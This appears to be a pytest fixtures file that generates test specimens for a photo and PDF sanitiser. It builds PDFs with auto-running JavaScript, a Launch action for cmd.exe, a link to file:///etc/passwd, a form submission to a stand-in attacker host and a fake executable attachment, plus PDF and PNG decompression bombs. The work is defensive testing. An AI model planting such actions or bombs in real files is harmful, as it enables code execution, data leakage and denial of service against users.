"""Files as people and attackers send them, made by the tests themselves."""

from __future__ import annotations

import random
import shutil
import struct
import subprocess
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from fpdf import FPDF
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageDraw

GPS = {1: "S", 2: (7.0, 45.0, 0.0), 3: "E", 4: (113.0, 13.0, 0.0)}


class Specimens:
    """Makes files in a folder of their own and returns their paths."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.made = 0

    def file(self, content: bytes, ending: str = "bin") -> Path:
        self.made += 1
        path = self.folder / f"specimen-{self.made}.{ending}"
        path.write_bytes(content)
        return path

    def phone_photo(self, width: int = 4000, height: int = 3000, turn: int = 6) -> Path:
        """A landscape JPEG whose EXIF turns it; its left third is red, so a turn can be seen."""
        picture = Image.effect_noise((width, height), 40).convert("RGB")
        ImageDraw.Draw(picture).rectangle((0, 0, width // 3, height), fill="red")
        exif = Image.Exif()
        exif[0x0112], exif[0x010F] = turn, "Telepon Murah"
        exif.get_ifd(0x8825).update(GPS)
        return self._image(picture, "JPEG", quality=80, exif=exif, comment=b"catatan rahasia")

    def photo(
        self, kind: str = "JPEG", mode: str = "RGB", size: tuple[int, int] = (800, 600), **options: object
    ) -> Path:
        return self._image(Image.new(mode, size), kind)

    def text_pdf(self, pages: int = 1) -> Path:
        letter = FPDF()
        letter.set_font("Helvetica", size=12)
        for number in range(pages):
            letter.add_page()
            letter.cell(text=f"Halaman {number + 1}")
        return self.file(bytes(letter.output()), "pdf")

    def scanned_pdf(self, size: int) -> Path:
        """A PDF of scanned pages (JPEG, 300 dpi A4, grained as scans are), a little under `size` bytes."""
        random.seed(3)
        scan = Image.effect_noise((2480, 3508), 12)
        buffer = BytesIO()
        scan.save(buffer, "JPEG", quality=75)
        book = FPDF()
        for _ in range(size // len(buffer.getvalue())):
            book.add_page()
            scan.putpixel((random.randrange(2480), random.randrange(3508)), 0)
            page = BytesIO()
            scan.save(page, "JPEG", quality=75)
            book.image(page, 0, 0, 210)
        return self.file(bytes(book.output()), "pdf")

    def acting_pdf(self) -> Path:
        """A PDF with every kind of thing that can act."""
        pdf = pikepdf.open(self.text_pdf())
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        pdf.attachments["virus.exe"] = b"MZ program"
        pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("a"), pdf.make_indirect(script)]))
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))
        link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [0, 0, 9, 9]}
        actions = [
            Dictionary(S=Name.Launch, F=String("cmd.exe")),
            Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
            Dictionary(S=Name.SubmitForm, F=String("http://jahat.example")),
            Dictionary(S=Name.GoTo, D=String("x"), Next=Dictionary(S=Name.JavaScript, JS=String("1"))),
            Dictionary(S=Name.URI, URI=String("https://kota.example/")),
        ]
        notes = [Dictionary(**link, A=action) for action in actions]
        notes.append(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9]))
        pdf.pages[0].obj.Annots = Array(notes)
        return self.saved(pdf)

    def signed_pdf(self, **root: object) -> Path:
        """A PDF that has the form of an electronically signed one."""
        pdf = pikepdf.open(self.text_pdf(2))
        signature = Dictionary(
            Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=[0, 10, 20, 30], Contents=String("\0" * 32)
        )
        field = Dictionary(FT=Name.Sig, T=String("Tanda tangan"), V=pdf.make_indirect(signature))
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
        for key, value in root.items():
            pdf.Root[f"/{key}"] = value
        return self.saved(pdf)

    def locked_pdf(self, user: str) -> Path:
        pdf = pikepdf.open(self.text_pdf())
        return self.saved(pdf, encryption=pikepdf.Encryption(owner="pemilik", user=user))

    def long_pdf(self, pages: int) -> Path:
        pdf = Pdf.new()
        for _ in range(pages):
            pdf.add_blank_page()
        return self.saved(pdf)

    def bomb_pdf(self, megabytes: int) -> Path:
        """One page whose drawing orders unpack to many megabytes of nothing."""
        machine = zlib.compressobj(9)
        packed = b"".join(machine.compress(b" " * 2**20) for _ in range(megabytes)) + machine.flush()
        pdf = Pdf.new()
        pdf.add_blank_page()
        orders = pdf.make_stream(b"")
        orders.write(packed, filter=Name.FlateDecode)
        pdf.pages[0].obj.Contents = orders
        return self.saved(pdf)

    def png_bomb(self, side: int = 50_000) -> Path:
        """A PNG of a few kilobytes that says it is `side` x `side` pixels."""

        def chunk(kind: bytes, data: bytes) -> bytes:
            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

        head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
        content = zlib.compress(b"\0" * 2**22, 9)
        png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", content) + chunk(b"IEND", b"")
        return self.file(png, "png")

    def saved(self, pdf: Pdf, **options: object) -> Path:
        buffer = BytesIO()
        pdf.save(buffer, **options)
        return self.file(buffer.getvalue(), "pdf")

    def _image(self, picture: Image.Image, kind: str, **options: object) -> Path:
        buffer = BytesIO()
        picture.save(buffer, kind, **options)
        return self.file(buffer.getvalue(), kind.lower())


@pytest.fixture
def specimens(tmp_path: Path) -> Specimens:
    folder = tmp_path / "specimens"
    folder.mkdir()
    return Specimens(folder)


@pytest.fixture
def target(tmp_path: Path) -> Path:
    return tmp_path / "out" / "paper.pdf"


@pytest.fixture
def stranger() -> Callable[..., bytes]:
    """Run a program that is not ours on a file; it must be content. Returns what it says."""

    def run(program: str, *arguments: object) -> bytes:
        if not shutil.which(program):
            pytest.skip(f"{program} is missing (Debian: apt-get install qpdf poppler-utils)")
        return subprocess.run([program, *map(str, arguments)], check=True, capture_output=True).stdout

    return run
